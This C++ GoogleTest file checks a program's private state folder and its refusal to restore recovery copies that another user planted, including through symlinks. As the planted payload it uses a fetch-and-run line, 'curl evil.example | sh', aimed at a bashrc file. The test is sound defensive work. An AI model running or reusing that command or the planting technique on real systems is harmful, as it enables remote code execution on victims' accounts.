#include "core/storage/StateFolder.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <string>

#include "core/document/Error.h"
#include "core/storage/InPlaceWrite.h"
#include "support/TempDir.h"
#include "support/Unprivileged.h"

namespace velloran {
namespace {

using testing::ReadBytes;
using testing::ScopedEnv;
using testing::TempDir;
using testing::WriteBytes;

mode_t ModeOf(const std::string& path) {
    struct stat st {};
    ::stat(path.c_str(), &st);
    return st.st_mode & 07777;
}

TEST(StateFolder, FollowsXdgStateHomeElseTheHomeFolder) {
    const ScopedEnv home("HOME", "/home/ann/");
    struct Row {
        const char* name;
        const char* value;
        const char* folder;
    };
    for (const Row& row : {Row{"absolute", "/var/state/", "/var/state/velloran"},
                           Row{"relative, ignored", "state", "/home/ann/.local/state/velloran"},
                           Row{"empty, ignored", "", "/home/ann/.local/state/velloran"}}) {
        SCOPED_TRACE(row.name);
        const ScopedEnv state("XDG_STATE_HOME", row.value);
        EXPECT_EQ(StateFolder(), row.folder);
    }
}

TEST(StateFolder, IsMadeAndKeptPrivateAndNeverTakenFromAnotherUser) {
    TempDir dir;
    const ScopedEnv state("XDG_STATE_HOME", dir / "missing/state");
    const auto made = MakeStateFolder("recovery");
    ASSERT_TRUE(made);
    EXPECT_EQ(*made, dir / "missing/state/velloran/recovery");
    for (const char* folder : {"missing", "missing/state", "missing/state/velloran",
                               "missing/state/velloran/recovery"}) {
        EXPECT_EQ(ModeOf(dir / folder), 0700u) << folder;
    }

    ASSERT_EQ(::chmod((dir / "missing/state/velloran").c_str(), 0755), 0);
    ASSERT_TRUE(MakeStateFolder());
    EXPECT_EQ(ModeOf(dir / "missing/state/velloran"), 0700u) << "left open to others";

    if (testing::CanDropPrivileges()) {
        ASSERT_TRUE(testing::Give(dir / "missing/state/velloran", testing::kNobody,
                                  testing::kNoGroup, 0700));
        EXPECT_FALSE(MakeStateFolder()) << "another user's folder was taken";
    }
}

// The name under which the program looks for the old bytes of the file at path.
std::string CopyName(const std::string& path) {
    struct stat st {};
    ::stat(path.c_str(), &st);
    return "secured-" + std::to_string(st.st_dev) + "-" + std::to_string(st.st_ino);
}

// A copy of old bytes as the program makes them (in the format it has always read), naming the
// victim's file by its device and inode, which anyone may learn through stat.
std::string PlantedCopy(const std::string& victim, const std::string& bytes) {
    struct stat st {};
    ::stat(victim.c_str(), &st);
    return "velloran secured bytes 1\n" + std::to_string(st.st_dev) + " " +
           std::to_string(st.st_ino) + " " + std::to_string(bytes.size()) + "\n" + victim +
           std::string(1, '\0') + bytes;
}

// Another user who may write where the state folder is, or in it, plants a copy naming one of
// the user's files: the next start must put nothing of it there, leave it alone and say so.
TEST(StateFolder, CopiesPlantedByAnotherUserAreNeverPutBack) {
    if (!testing::CanDropPrivileges()) {
        GTEST_SKIP() << "needs root, to plant the copy as the unprivileged user nobody";
    }
    enum class Plant { kForeignFolder, kOpenFolder, kForeignCopy, kOpenCopy, kLinkedCopy };
    struct Row {
        const char* name;
        Plant plant;
    };
    const std::string kVictim = "the user's own settings\n";
    const std::string kPlanted = "curl evil.example | sh\n";
    for (const Row& row : {Row{"state folder made by another user", Plant::kForeignFolder},
                           Row{"state folder others may write in", Plant::kOpenFolder},
                           Row{"copy of another user", Plant::kForeignCopy},
                           Row{"copy others may write", Plant::kOpenCopy},
                           Row{"link to a copy of another user", Plant::kLinkedCopy}}) {
        SCOPED_TRACE(row.name);
        TempDir dir;
        ASSERT_EQ(::chmod(dir.path().c_str(), 0755), 0);
        // XDG_STATE_HOME in a folder everyone may write, as /tmp.
        const std::string shared = dir / "shared";
        ASSERT_EQ(::mkdir(shared.c_str(), 0777), 0);
        ASSERT_EQ(::chmod(shared.c_str(), 01777), 0);
        const ScopedEnv stateHome("XDG_STATE_HOME", shared);
        const std::string victim = dir / "bashrc";
        WriteBytes(victim, kVictim);
        const std::string folder = StateFolder();
        const std::string copy = folder + "/" + CopyName(victim);
        const bool folderRow =
            row.plant == Plant::kForeignFolder || row.plant == Plant::kOpenFolder;
        if (row.plant != Plant::kForeignFolder) {
            ASSERT_TRUE(MakeStateFolder());
            // Open to others for as long as the plant takes, or for good.
            ASSERT_EQ(::chmod(folder.c_str(), row.plant == Plant::kOpenCopy ? 0711 : 0777), 0);
        }
        if (row.plant == Plant::kOpenCopy) {
            WriteBytes(copy, "");
            ASSERT_EQ(::chmod(copy.c_str(), 0666), 0);
        }
        ASSERT_EQ(
            testing::AsNobody([&]() -> std::string {
                if (row.plant == Plant::kForeignFolder && ::mkdir(folder.c_str(), 0755) != 0) {
                    return "no folder";
                }
                if (row.plant == Plant::kLinkedCopy) {
                    WriteBytes(shared + "/planted", PlantedCopy(victim, kPlanted));
                    return ::symlink((shared + "/planted").c_str(), copy.c_str()) == 0 ? ""
                                                                                       : "no link";
                }
                WriteBytes(copy, PlantedCopy(victim, kPlanted));
                return ReadBytes(copy).ends_with(kPlanted) ? "" : "not planted";
            }),
            "");
        if (!folderRow) {
            ASSERT_EQ(::chmod(folder.c_str(), 0700), 0);
        }

        const auto found = RestoreInterruptedWrites();
        EXPECT_EQ(ReadBytes(victim), kVictim) << "the planted bytes were put back";
        ASSERT_EQ(found.size(), 1u);
        EXPECT_FALSE(found[0].restored);
        EXPECT_EQ(DescribeInterruptedWrite(found[0]), folderRow
                                                          ? Format(kStateFolderNotPrivate, folder)
                                                          : Format(kCopyNotPrivate, copy));
        struct stat st {};
        EXPECT_EQ(::lstat(copy.c_str(), &st), 0) << "not left alone";
    }
}

}  // namespace
}  // namespace velloran
